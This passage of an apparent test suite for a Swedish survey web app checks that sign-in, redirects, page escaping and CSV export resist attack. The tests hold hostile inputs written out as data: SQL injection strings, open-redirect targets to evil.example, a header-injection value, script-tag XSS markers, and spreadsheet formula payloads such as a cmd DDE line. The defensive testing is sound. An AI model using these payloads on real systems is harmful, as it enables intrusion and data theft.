  it("sign-in with hostile e-mail and password: no session, a Swedish message or a clear 4xx, never 5xx", async () => {
    const admin = emails.admin;
    const attempts: [string, Record<string, string>][] = [
      ["SQL in the e-mail", { email: "' OR '1'='1", password: "x" }],
      ["SQL comment after the e-mail", { email: `${admin}' --`, password: "whatever-password" }],
      ["SQL in the password", { email: admin, password: "' OR 1=1 --" }],
      ["SQL union", { email: "x' UNION SELECT * FROM app_user --", password: "x" }],
      ["Cyrillic а in the e-mail (homoglyph)", { email: admin.replace("a", "\u0430"), password: PASSWORDS.admin }],
      ["fullwidth e-mail", { email: admin.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)), password: PASSWORDS.admin }],
      ["zero-width space in the e-mail", { email: `\u200B${admin}`, password: PASSWORDS.admin }],
      ["NUL as the password", { email: admin, password: "\u0000" }],
      ["NULs as the password", { email: admin, password: "\u0000".repeat(64) }],
      ["password with a trailing zero-width space", { email: admin, password: `${PASSWORDS.admin}\u200B` }],
      ["right-to-left override", { email: `\u202E${admin}`, password: PASSWORDS.admin }],
      ["lone surrogate", { email: "\ud800@x.se", password: "\udfff" }],
      ["e-mail of 100 KB", { email: "a".repeat(100_000), password: "x" }],
      ["password of 900 KB", { email: admin, password: "p".repeat(900_000) }],
      ["markup as the e-mail", { email: "<script>alert(1)</script>", password: "x" }],
      ["empty fields", { email: "", password: "" }],
    ];
    const before = await sessions();
    const problems: string[] = [];
    for (const [label, fields] of attempts) {
      tried++;
      const res = await postSignIn(server.url, fields);
      const text = await res.text();
      if (res.headers.get("set-cookie")?.startsWith("td_session=")) problems.push(`${label}: signed in`);
      if (res.status === 200) {
        if (!/Fel e-postadress eller lösenord|Fyll i både e-postadress och lösenord|För många misslyckade försök/.test(text)) problems.push(`${label}: 200 without a message`);
        if (text.includes("<script>alert(1)</script>")) problems.push(`${label}: markup echoed unescaped`);
      } else if (res.status < 400 || res.status >= 500) {
        problems.push(`${label}: ${res.status}`);
      }
    }
    // A 10 MB password is refused before anything reads it.
    tried++;
    const huge = await postSignIn(server.url, { email: admin, password: "p".repeat(10 * 1024 * 1024) });
    if (huge.status !== 413) problems.push(`10 MB password: ${huge.status}`);
    expect(await huge.text()).toContain("för stort");
    expect(problems).toEqual([]);
    expect(await sessions()).toBe(before);
    // Upper-case and surrounding spaces are the same address: not a trick, a convenience.
    tried++;
    const cookie = await signIn(server.url, `  ${emails.analyst.toUpperCase()} `, PASSWORDS.analyst);
    expect(cookie).toMatch(/^td_session=./);
  });

  // PostgreSQL refuses a NUL in text (22021); the sign-in treats such an address as unknown.
  it("an e-mail with a NUL: no session, never 5xx", async () => {
    const before = await sessions();
    for (const email of [`${emails.admin}\u0000`, "\u0000", `a\u0000@b.se`]) {
      tried++;
      const res = await postSignIn(server.url, { email, password: PASSWORDS.admin });
      expect(res.status, JSON.stringify(email)).toBe(200);
      expect(await res.text()).toContain("Fel e-postadress eller lösenord");
    }
    expect(await sessions()).toBe(before);
  });

  it("forms in other encodings than a form: 415, never 5xx", async () => {
    const problems: string[] = [];
    const bodies: [string, string | undefined, string][] = [
      ["JSON", "application/json", JSON.stringify({ email: "a@b.se", password: "x" })],
      ["text", "text/plain", "email=a@b.se&password=x"],
      ["no Content-Type", undefined, "email=a@b.se&password=x"],
      ["XML", "application/xml", "<login/>"],
    ];
    for (const p of ["/logga-in?index", "/sprak", "/logga-ut"]) {
      for (const [label, type, body] of bodies) {
        const res = await send({ path: p, headers: type ? { "Content-Type": type } : {}, body });
        if (res.status !== 415) problems.push(`${p} ${label}: ${res.status}`);
      }
    }
    expect(problems).toEqual([]);
  });

  it("a form body that does not parse: 400", async () => {
    const problems: string[] = [];
    for (const p of ["/logga-in?index", "/sprak"]) {
      const res = await send({ path: p, headers: { "Content-Type": "multipart/form-data; boundary=abc" }, body: "--abc\r\nnot a part" });
      if (res.status < 400 || res.status >= 500) problems.push(`${p}: ${res.status}`);
    }
    expect(problems).toEqual([]);
  });

  it("the language switch never leaves the site, whatever redirectTo says", async () => {
    const targets = [
      "//evil.example",
      "https://evil.example",
      "http:evil.example",
      "/\\evil.example",
      "\\\\evil.example",
      "/\t/evil.example",
      "/\n/evil.example",
      "/\r\n/evil.example",
      " //evil.example",
      "/..//evil.example",
      "/%2F%2Fevil.example",
      "/%5Cevil.example",
      "///evil.example",
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "/\u3002evil.example",
      "/sök?x=<script>",
      "/x\r\nSet-Cookie: td_session=stolen",
      "",
      "x".repeat(100_000),
    ];
    const problems: string[] = [];
    for (const to of targets) {
      tried++;
      const res = await postForm(`${server.url}/sprak`, { lang: "en", redirectTo: to });
      const location = res.headers.get("location") ?? "";
      const resolved = new URL(location, server.url);
      if (res.status !== 302) problems.push(`${JSON.stringify(to)}: ${res.status}`);
      else if (resolved.origin !== server.url || !location.startsWith("/") || location.startsWith("//")) problems.push(`${JSON.stringify(to)} → ${location}`);
      if ((res.headers.get("set-cookie") ?? "").includes("stolen")) problems.push(`${JSON.stringify(to)}: header injected`);
    }
    // The same check on sign-in's redirectTo.
    for (const to of targets.slice(0, 12)) {
      tried++;
      const res = await postSignIn(server.url, { email: emails.analyst, password: PASSWORDS.analyst, redirectTo: to });
      const location = res.headers.get("location") ?? "";
      if (res.status !== 302 || new URL(location, server.url).origin !== server.url || location.startsWith("//")) problems.push(`sign-in ${JSON.stringify(to)} → ${res.status} ${location}`);
    }
    expect(problems).toEqual([]);
    // An ordinary target is kept.
    const ok = await postForm(`${server.url}/sprak`, { lang: "sv", redirectTo: "/enkat/trygghetsmatning-2025?x=1" });
    expect(ok.headers.get("location")).toBe("/enkat/trygghetsmatning-2025?x=1");
  });
});

// ---------------------------------------------------------------------------------------------

describe("text comes back escaped", () => {
  const MARKER = `<script>alert("td-xss-${randomUUID()}")</script>`;
  const RAW = /<script>alert\("td-xss-/;

  it("a stored <script> suggestion never appears unescaped in any page, data or API answer", async () => {
    const res = await json(envelope(validAnswers({ suggestion: MARKER })));
    expect(res.status).toBe(201);
    const emails = await createStaff(getDb(), "xss");
    const cookies = [undefined, ...(await Promise.all((["admin", "analyst", "facilitator"] as const).map((r) => signIn(server.url, emails[r], PASSWORDS[r]))))];
    const urls = [
      "/",
      "/enkat/trygghetsmatning-2025",
      "/enkat/trygghetsmatning-2025/tack",
      "/personal",
      "/logga-in",
      "/?_data=root",
      "/personal?_data=routes%2Fpersonal._index",
      "/api/results/trygghetsmatning?year=2025",
      "/api/results/trygghetsmatning?year=2025&by=area&format=csv",
    ];
    const problems: string[] = [];
    for (const cookie of cookies) {
      for (const url of urls) {
        tried++;
        const page = await fetch(`${server.url}${url}`, { headers: cookie ? { Cookie: cookie } : {}, redirect: "manual" });
        const text = await page.text();
        if (RAW.test(text)) problems.push(`${url} (${cookie ? "signed in" : "anonymous"})`);
      }
    }
    expect(problems).toEqual([]);
  });

  it("markup in the address is escaped wherever a page reflects it", async () => {
    const evil = '"><script>alert("td-xss-reflect")</script>';
    const urls = [
      `/logga-in?redirectTo=${encodeURIComponent(evil)}`,
      `/enkat/${encodeURIComponent(evil)}`,
      `/${encodeURIComponent(evil)}`,
      `/?${encodeURIComponent(evil)}=1`,
      `/api/results/${encodeURIComponent(evil)}?year=2025`,
      `/api/results/trygghetsmatning?year=2025&${encodeURIComponent(evil)}=1`,
    ];
    for (const url of urls) {
      tried++;
      const res = await fetch(`${server.url}${url}`);
      const text = await res.text();
      expect(res.status, url).toBeLessThan(500);
      if (/^text\/html/.test(res.headers.get("content-type") ?? "")) {
        expect(text, url).not.toMatch(/<script>alert\("td-xss-reflect"\)/);
      } else {
        expect(res.headers.get("content-type"), url).toMatch(/^application\/json/);
        expect(res.headers.get("x-content-type-options"), url).toBe("nosniff");
      }
    }
    const signInPage = await (await fetch(`${server.url}/logga-in?redirectTo=${encodeURIComponent(evil)}`)).text();
    expect(signInPage).toContain('value="&quot;&gt;&lt;script&gt;alert(&quot;td-xss-reflect&quot;)&lt;/script&gt;"');
  });
});

describe("CSV export neutralises formulas", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "\"'\r=1+1\""],
    ['=HYPERLINK("http://evil.example","klick")', '"\'=HYPERLINK(""http://evil.example"",""klick"")"'],
    ["=1,2", "\"'=1,2\""],
    ["-1", "-1"],
    ["-1.5e-3", "-1.5e-3"],
    ["+46", "'+46"],
    [-3, "-3"],
    [0.25, "0.25"],
    [true, "true"],
    [null, ""],
    ["Åhus", "Åhus"],
    [" leading space", '" leading space"'],
    ["<script>", "<script>"],
  ])("csvCell(%j) → %s", (value, cell) => {
    tried++;
    expect(csvCell(value as string)).toBe(cell);
  });

  it("a results CSV with formula-like labels: every cell that starts like a formula is neutralised", () => {
    const hostile = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"];
    const measureSet = {
      version: "test",
      measures: hostile.map((name, i) => ({ key: `m${i}`, name: { sv: name, en: name }, kind: "share" })),
    } as unknown as MeasureSet;
    const doc = {
      series: "trygghetsmatning",
      year: 2025,
      by: "area",
      weighted: false,
      weighting: null,
      measureSetVersion: "test",
      minCount: 10,
      lowPrecisionCount: 50,
      respondents: 100,
      measures: hostile.map((value, i) => ({
        key: `m${i}`,
        group: { area: value },
        n: 50,
        estimate: 0.5,
        se: 0.05,
        ci: [0.4, 0.6],
        suppressed: false,
        lowPrecision: false,
        dontKnow: { n: 0, share: 0 },
      })),
    } as unknown as ResultsDocument;
    tried += hostile.length;
    const csv = resultsToCsv(doc, measureSet);
    const records = parseCsv(csv);
    expect(records).toHaveLength(hostile.length + 1);
    const cells = records.flatMap((r) => r.fields);
    for (const value of hostile) {
      expect(cells).toContain(`'${value}`);
      expect(cells).not.toContain(value);
    }
    for (const cell of cells) {
      expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
      if (cell.startsWith("-")) expect(cell, cell).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
    }
  });
});
